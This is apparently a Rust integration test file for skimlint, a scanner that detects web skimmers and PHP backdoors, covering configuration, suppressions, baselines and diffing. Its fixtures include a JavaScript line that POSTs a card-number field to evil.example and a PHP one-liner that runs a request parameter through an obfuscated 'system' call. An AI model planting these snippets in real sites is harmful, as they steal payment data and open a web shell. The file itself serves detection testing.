//! Configuration files, inline suppressions, baselines and `skimlint diff`, through the binary.

mod common;
use common::{run, sarif_schema, skimlint, write};
use std::path::Path;

use predicates::prelude::*;

const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
const BACKDOOR_PHP: &str = "<?php\n$f = \"sys\".\"tem\"; $f($_GET[\"c\"]);\n";

fn lines_with(text: &str, needle: &str) -> usize {
    text.lines().filter(|l| l.contains(needle)).count()
}

#[test]
fn config_is_found_above_the_scanned_path_and_shapes_the_scan() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "app/a.js", SKIMMER_JS);
    write(root, "app/b.php", BACKDOOR_PHP);
    write(root, "app/vendor/lib.js", SKIMMER_JS);
    write(root, "app/generated/x.js", SKIMMER_JS);
    // Without a configuration file: everything.
    let (code, all, _) = run(root, &["check", "app", "--format", "concise"]);
    assert_eq!(code, 1);
    assert_eq!(lines_with(&all, "[js/card-data-exfiltration]"), 3, "{all}");
    assert_eq!(lines_with(&all, "[php/computed-dangerous-function]"), 1);

    write(
        root,
        "skimlint.toml",
        r#"# the shop's settings
exclude = ["vendor", "/app/generated/"]

[rules]
disable = ["php/computed-dangerous-function"]

[rules.severity]
"js/card-data-exfiltration" = "note"

[hosts]
allow = ["shop.example.com", "*.stripe.com"]
"#,
    );
    // Found by walking up from `app`; exclude globs are relative to the file's folder.
    let (code, out, err) = run(root, &["check", "app", "--format", "concise"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("using configuration"), "{err}");
    assert_eq!(
        out,
        "app/a.js:2:6: note[js/card-data-exfiltration] card data reaches `fetch`\n\
         app/b.php:2:19: error[php/eval-of-request-data] `system` runs code taken from the request\n",
        "{out}"
    );
    // Only notes and the PHP error remain: fail-on error still fails, but on the PHP file only.
    let (code, _, _) = run(root, &["check", "app/a.js", "--fail-on", "warning"]);
    assert_eq!(code, 0, "a note does not fail at warning level");
    // A disabled rule is not described in SARIF either; an overridden one has its new level.
    let (_, sarif, _) = run(root, &["check", "app", "--format", "sarif"]);
    let doc: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    let rules = doc["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    assert!(!rules
        .iter()
        .any(|r| r["id"] == "php/computed-dangerous-function"));
    let card = rules
        .iter()
        .find(|r| r["id"] == "js/card-data-exfiltration")
        .unwrap();
    assert_eq!(card["defaultConfiguration"]["level"], "note");
    // --no-config: the tree's own file is ignored (it may come from an attacker).
    let (_, out, err) = run(
        root,
        &["check", "app", "--format", "concise", "--no-config"],
    );
    assert_eq!(out, all);
    assert!(!err.contains("using configuration"));
    // --config FILE from elsewhere.
    write(root, "other/strict.toml", "[rules]\nenable = [\"php/*\"]\n");
    let (_, out, _) = run(
        root,
        &[
            "check",
            "app",
            "--format",
            "concise",
            "--config",
            "other/strict.toml",
        ],
    );
    assert_eq!(lines_with(&out, "[js/"), 0, "{out}");
    assert_eq!(lines_with(&out, "[php/"), 2, "{out}");
}

#[test]
fn config_errors_point_at_line_and_column_and_exit_two() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "a.js", SKIMMER_JS);
    let cases = [
        (
            "exclude = [\"x\"]\n[rules]\ndisabled = [\"js/x\"]\n",
            ":3:1: ",
            "unknown field `disabled`",
        ),
        (
            "[rules]\ndisable = [\"js/no-such-rule\"]\n",
            ":2:12: ",
            "no reported rule `js/no-such-rule`",
        ),
        (
            "[limits]\nmax-file-size = \"big\"\n",
            ":2:17: ",
            "invalid type",
        ),
        (
            "[hosts]\nallow = [\"https://shop.example.com/\"]\n",
            ":2:10: ",
            "host name only",
        ),
        ("rule-dirs = [\"missing\"]\n", ":1:14: ", "does not exist"),
        (
            "[rules.severity]\n\"js/signal-card-field-read\" = \"error\"\n",
            ":2:1: ",
            "no reported rule",
        ),
    ];
    for (text, pos, message) in cases {
        write(root, "skimlint.toml", text);
        skimlint()
            .current_dir(root)
            .args(["check", "."])
            .assert()
            .code(2)
            .stdout("")
            .stderr(
                predicate::str::contains(format!("skimlint.toml{pos}"))
                    .and(predicate::str::contains(message)),
            );
    }
}

#[test]
fn config_limits_rule_dirs_and_cli_precedence() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "site/a.js", "alert(1);\n");
    write(
        root,
        "site/big.js",
        format!("{SKIMMER_JS}{}", " ".repeat(4000)),
    );
    write(
        root,
        "site/conf/rules/alert.toml",
        r#"id = "js/test-alert"
severity = "warning"
languages = ["javascript"]
summary = "alert is called"
message = "alert is called"
help = "test rule"
query = '(call_expression function: (identifier) @f (#eq? @f "alert")) @call'
report = "call"
"#,
    );
    write(
        root,
        "site/conf/skimlint.toml",
        "rule-dirs = [\"rules\"]\n\n[limits]\nmax-file-size = 1000\nmax-layer-depth = 2\n",
    );
    let (code, out, err) = run(
        root,
        &[
            "check",
            "site",
            "--format",
            "concise",
            "--config",
            "site/conf/skimlint.toml",
        ],
    );
    assert_eq!(code, 1);
    assert!(
        out.contains("site/a.js:1:1: warning[js/test-alert] alert is called"),
        "{out}"
    );
    assert!(!out.contains("big.js"), "{out}");
    assert!(err.contains("big.js: skipped"), "{err}");
    // The command line wins over the file.
    let (_, out, _) = run(
        root,
        &[
            "check",
            "site",
            "--format",
            "concise",
            "--config",
            "site/conf/skimlint.toml",
            "--max-file-size",
            "100000",
        ],
    );
    assert!(out.contains("big.js:2:"), "{out}");
}

#[test]
fn suppressions_in_each_language_need_a_reason_and_unused_ones_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let fetch = "fetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});";
    write(
        root,
        "a.js",
        format!(
            "// skimlint-ignore js/card-data-exfiltration: our own payment iframe, reviewed\n{fetch}\n\n\
             {fetch} // skimlint-ignore js/card-data-exfiltration\n\n\
             /* skimlint-ignore js/eval-of-decoded-string: nothing here */\nvar y = 2;\n"
        ),
    );
    write(
        root,
        "b.php",
        "<?php\n# skimlint-ignore php/eval-of-request-data, php/computed-dangerous-function: admin tool\n$f = \"sys\".\"tem\"; $f($_GET[\"c\"]);\n",
    );
    write(
        root,
        "page.html",
        format!("<p>x</p>\n<!-- skimlint-ignore js/card-data-exfiltration: tested widget -->\n<script>{fetch}</script>\n"),
    );
    write(
        root,
        "page.twig",
        format!("{{# skimlint-ignore js/card-data-exfiltration: tested widget #}}\n<script>{fetch}</script>\n<script>{fetch}</script>\n"),
    );
    let (code, out, _) = run(root, &["check", ".", "--format", "concise"]);
    assert_eq!(code, 1, "{out}");
    let expected = [
        "a.js:4:6: error[js/card-data-exfiltration]",
        "warning[skimlint/invalid-suppression] suppression gives no reason",
        "a.js:6:1: note[skimlint/unused-suppression] suppression of `js/eval-of-decoded-string` matches no finding",
        "page.twig:3:",
    ];
    for e in expected {
        assert!(out.contains(e), "missing {e:?} in\n{out}");
    }
    // Suppressed: a.js line 2, both PHP findings, the HTML script, the first twig script.
    assert!(!out.contains("a.js:2:"), "{out}");
    assert!(!out.contains("b.php"), "{out}");
    assert!(!out.contains("page.html"), "{out}");
    assert!(!out.contains("page.twig:2:"), "{out}");
    assert_eq!(out.lines().count(), 4, "{out}");

    // --no-ignores: every finding, no meta-findings.
    let (_, all, _) = run(root, &["check", ".", "--format", "concise", "--no-ignores"]);
    assert!(!all.contains("skimlint/"), "{all}");
    for f in [
        "a.js:2:",
        "a.js:4:",
        "b.php:3:",
        "page.html:3:",
        "page.twig:2:",
        "page.twig:3:",
    ] {
        assert!(all.contains(f), "{f} missing in\n{all}");
    }

    // SARIF describes the meta rules and stays valid.
    let (_, sarif, _) = run(root, &["check", ".", "--format", "sarif"]);
    let doc: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    let run0 = &doc["runs"][0];
    let rules = run0["tool"]["driver"]["rules"].as_array().unwrap();
    for id in [
        "skimlint/invalid-suppression",
        "skimlint/unused-suppression",
    ] {
        let i = rules.iter().position(|r| r["id"] == id).expect(id);
        let result = run0["results"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["ruleId"] == id)
            .unwrap();
        assert_eq!(result["ruleIndex"], i);
        assert!(rules[i]["help"]["markdown"]
            .as_str()
            .unwrap()
            .contains("suppression"));
    }
    let schema = sarif_schema().expect("serde-sarif's schema.json in the cargo registry");
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(&doc).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:?}");
    // The meta rules are explained like any other.
    skimlint()
        .args(["rules", "explain", "skimlint/unused-suppression"])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("--no-ignores"));
    // The full format shows their help line.
    let (_, full, _) = run(root, &["check", "a.js", "--format", "full"]);
    assert!(full.contains("A suppression must name the rules"), "{full}");
}

#[test]
fn baseline_hides_accepted_findings_and_shows_new_ones() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "src/a.js", SKIMMER_JS);
    write(root, "src/b.php", BACKDOOR_PHP);
    let (code, out, err) = run(
        root,
        &[
            "check",
            "src",
            "--format",
            "concise",
            "--write-baseline",
            "base.json",
        ],
    );
    assert_eq!(code, 0, "writing a baseline accepts the findings: {err}");
    assert_eq!(out.lines().count(), 3, "the report is still printed: {out}");
    assert!(err.contains("wrote 3 fingerprints to base.json"), "{err}");
    let text = std::fs::read_to_string(root.join("base.json")).unwrap();
    let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
    let entries = doc["findings"].as_array().unwrap();
    assert_eq!(doc["version"], 1);
    assert_eq!(entries.len(), 3);
    let keys: Vec<(String, String)> = entries
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().into(),
                e["rule_id"].as_str().unwrap().into(),
            )
        })
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    // Same content twice: byte-identical baseline.
    run(root, &["check", "src", "--write-baseline", "again.json"]);
    assert_eq!(
        text,
        std::fs::read_to_string(root.join("again.json")).unwrap()
    );

    let (code, out, _) = run(
        root,
        &[
            "check",
            "src",
            "--format",
            "concise",
            "--baseline",
            "base.json",
        ],
    );
    assert_eq!((code, out.as_str()), (0, ""));
    // Lines inserted above a finding do not change its fingerprint; a new finding is shown.
    write(root, "src/a.js", format!("// header\n\n{SKIMMER_JS}"));
    write(root, "src/c.js", SKIMMER_JS);
    let (code, out, _) = run(
        root,
        &[
            "check",
            "src",
            "--format",
            "concise",
            "--baseline",
            "base.json",
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(out.starts_with("src/c.js:2:"), "{out}");
    // A broken or missing baseline is a usage error.
    write(root, "bad.json", "{\"version\": 1, \"findings\": 3}");
    for bad in ["bad.json", "missing.json"] {
        skimlint()
            .current_dir(root)
            .args(["check", "src", "--baseline", bad])
            .assert()
            .code(2)
            .stderr(predicate::str::contains(bad));
    }
}

#[test]
fn diff_reports_only_what_the_new_version_adds() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "v1/app/a.js", SKIMMER_JS);
    write(root, "v1/app/b.php", BACKDOOR_PHP);
    write(root, "v1/app/clean.js", "console.log('hi');\n");
    // v2: a.js edited above the old finding (same fingerprint), b.php unchanged, a second copy
    // of the old finding in a.js and a new skimmer in clean.js.
    write(
        root,
        "v2/app/a.js",
        format!("// v2\n{SKIMMER_JS}{SKIMMER_JS}"),
    );
    write(root, "v2/app/b.php", BACKDOOR_PHP);
    write(
        root,
        "v2/app/clean.js",
        format!("console.log('hi');\n{SKIMMER_JS}"),
    );
    let (code, out, _) = run(root, &["diff", "v1", "v2", "--format", "concise"]);
    assert_eq!(code, 1, "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(lines[0].starts_with("app/a.js:5:"), "{out}");
    assert!(lines[1].starts_with("app/clean.js:3:"), "{out}");
    // Same output formats, exit codes and --fail-on as check.
    let (code, json, _) = run(
        root,
        &["diff", "v1", "v2", "--format", "json", "--fail-on", "none"],
    );
    assert_eq!(code, 0);
    let doc: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(doc["findings"].as_array().unwrap().len(), 2);
    let (_, sarif, _) = run(root, &["diff", "v1", "v2", "--format", "sarif"]);
    assert!(sarif.contains("\"uri\": \"app/clean.js\""), "{sarif}");
    // Nothing new: exit 0 and no output; no new finding when the new version removes one.
    let (code, out, _) = run(root, &["diff", "v2", "v1", "--format", "concise"]);
    assert_eq!((code, out.as_str()), (0, ""));
    let (code, _, err) = run(root, &["diff", "v1", "v1/app/a.js"]);
    assert_eq!(code, 2, "{err}");
    let (code, _, _) = run(root, &["diff", "v1", "nope"]);
    assert_eq!(code, 2);
}

#[test]
fn the_readme_configuration_example_is_valid() {
    let readme =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let start = readme
        .find("```toml\n# Files to scan")
        .expect("configuration example in README.md")
        + "```toml\n".len();
    let example = &readme[start..start + readme[start..].find("```").unwrap()];
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "skimlint.toml", example);
    std::fs::create_dir_all(root.join("skimlint-rules")).unwrap();
    // The example names a known-good manifest: one of an empty release.
    std::fs::create_dir_all(root.join("release")).unwrap();
    std::fs::create_dir_all(root.join("manifests")).unwrap();
    let (code, _, err) = run(
        root,
        &[
            "manifest",
            "create",
            "release",
            "-o",
            "manifests/wordpress-6.5.json",
        ],
    );
    assert_eq!(code, 0, "{err}");
    std::fs::remove_dir(root.join("release")).unwrap();
    write(root, "app/a.js", SKIMMER_JS);
    write(root, "vendor/a.js", SKIMMER_JS);
    let (code, out, err) = run(root, &["check", ".", "--format", "concise"]);
    assert_eq!(code, 1, "{err}");
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(out.starts_with("app/a.js:"), "{out}");
}
